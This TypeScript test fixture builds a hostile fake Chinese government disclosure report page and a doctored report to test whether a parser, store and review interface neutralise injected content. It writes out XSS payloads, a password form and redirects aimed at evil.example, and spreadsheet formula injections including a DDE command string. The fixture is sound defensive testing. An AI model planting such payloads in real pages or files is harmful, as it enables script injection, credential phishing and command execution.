import { createHash } from 'node:crypto'
import { auditReport } from '../../audit/audit-report.ts'
import type { Report } from '../../data/schema/report.ts'
import type { BrowsableStore } from '../../data/store/browsing.ts'
import { parseDocument } from '../../parsers/parse-document.ts'

const script = '<script>window.pwned = 1; document.title = "pwned"</script>'
const image = '<img src="http://evil.example/x.png" onerror="window.pwned = 1">'
const turned = '\u202e年度\u202c'
const formula = '=HYPERLINK("http://evil.example/";"click")'

const cells = (values: readonly string[]) => values.map((value) => `<td>${value}</td>`).join('')

const rows = ['一、本年新收政府信息公开申请数量', '二、上年结转政府信息公开申请数量']

/** A page as an attacker would publish it: scripts, styles, links, forms, frames, formulas, text that turns round. */
export const hostilePage = `<!doctype html><html><head><meta charset="utf-8"><title>恶意县财政局2024年政府信息公开工作年度报告</title>
<meta http-equiv="refresh" content="0;url=http://evil.example/"><base href="http://evil.example/">
<style>* { display: none !important; position: fixed } @import url(http://evil.example/x.css);</style>
<link rel="stylesheet" href="http://evil.example/x.css">${script}</head>
<body onload="window.pwned = 1" style="position:fixed;inset:0;background:url(http://evil.example/b.png)">
<h1>恶意县财政局2024年政府信息公开工作年度报告</h1>
<p>根据《中华人民共和国政府信息公开条例》，现公布2024年度报告。统计期限自2024年1月1日起至2024年12月31日止。</p>
<h2>一、总体情况</h2><p>${turned} <a href="javascript:window.pwned=1">点这里</a> ${image} ${formula} &lt;script&gt;window.pwned=1&lt;/script&gt;</p>
<form action="http://evil.example/" method="post"><input name="password" autofocus><button>登录</button></form>
<iframe src="http://evil.example/"></iframe><object data="http://evil.example/"></object><svg onload="window.pwned=1"></svg>
<h2>二、主动公开政府信息情况</h2>
<table style="width:99999px"><tr><td colspan="99999">第二十条第（一）项</td></tr>
<tr>${cells(['信息内容', '本年制发件数', '本年废止件数', '现行有效件数'])}</tr>
<tr>${cells(['规章', formula, turned, '&lt;b onclick=x&gt;1'])}</tr><tr>${cells(['行政规范性文件', '1', '-1+cmd|x', '@SUM(A1)'])}</tr></table>
<h2>三、收到和处理政府信息公开申请情况</h2>
<table><tr><td rowspan="3" colspan="3">（本列数据的勾稽关系为：第一项加第二项之和，等于第三项加第四项之和）</td><td colspan="7">申请人情况</td></tr>
<tr><td rowspan="2">自然人</td><td colspan="5">法人或其他组织</td><td rowspan="2">总计</td></tr>
<tr>${cells(['商业企业', '科研机构', '社会公益组织', '法律服务机构', '其他'])}</tr>
${rows.map((label) => `<tr><td colspan="3">${label}</td>${cells(['1', formula, image, script, turned, '0', '9'])}</tr>`).join('\n')}
</table>
<h2>四、政府信息公开行政复议、行政诉讼情况</h2><h2>五、存在的主要问题及改进情况</h2><p>${script}</p>
<h2>六、其他需要报告的事项</h2><p>无。</p></body></html>`

/** What is hostile in a text that a parser let through, or that another program wrote into the store. */
const worst = `"><script>window.pwned=1</script>${turned}\n=cmd|' /C calc'!A0`

const keep = async (store: BrowsableStore, key: string, url: string, bytes: Buffer, report: Report) => {
  const at = '2026-01-01T00:00:00.000Z'
  const sha256 = createHash('sha256').update(bytes).digest('hex')
  await store.addPages([{ key, portal: 'evil', kind: 'article', request: { url, method: 'GET' } }], at)
  const facts = { status: 200, mediaType: 'text/html', charset: null, etag: null, lastModified: null }
  const snapshot = { ...facts, sha256, url, fetchedAt: at, size: bytes.length }
  await store.fetched(key, { notModified: false, snapshot, bytes }, at)
  await store.parsed(key, report, '1', at)
  await store.audited(await auditReport(report), at, key)
}

/**
 * Stores hostile reports: one as the parser reads it from the hostile page; one whose every text is an attack, as nobody
 * would read it. Answers their ids.
 */
export const plantHostile = async (store: BrowsableStore): Promise<{ read: string; doctored: string }> => {
  const bytes = Buffer.from(hostilePage)
  const url = 'http://evil.example/2024.html'
  const read = await parseDocument({ bytes, url, mediaType: 'text/html', charset: null, fetchedAt: null })
  await keep(store, 'evil', url, bytes, read)
  const doctored: Report = {
    ...read,
    id: 'doctored',
    title: worst,
    agency: worst,
    source: { ...read.source, url: `javascript:window.pwned=1//${worst}`, charset: worst },
    cells: read.cells.map((cell) => ({
      ...cell,
      raw: worst,
      state: cell.state === 'reported' ? 'reported' : 'unreadable',
    })),
    sections: [{ id: 'overview', heading: worst, text: worst }],
    statements: [{ about: 'requests.newlyReceived.total', value: 7, text: worst }],
    warnings: [{ code: worst, message: worst, cells: [] }],
  }
  await keep(store, 'doctored', 'http://evil.example/doctored.html', bytes, doctored)
  await store.parsed('doctored', { ...doctored, title: `${worst} 2` }, '1', '2026-01-02T00:00:00.000Z')
  await store.audited(await auditReport(doctored), '2026-01-02T00:00:00.000Z', 'doctored')
  const [record] = await Array.fromAsync(store.findings('doctored'))
  const { fingerprint } = record!.finding
  const decidedAt = '2026-01-03T00:00:00.000Z'
  await store.review({ fingerprint, decision: 'confirmed', note: worst, decidedBy: worst, decidedAt })
  return { read: read.id, doctored: 'doctored' }
}
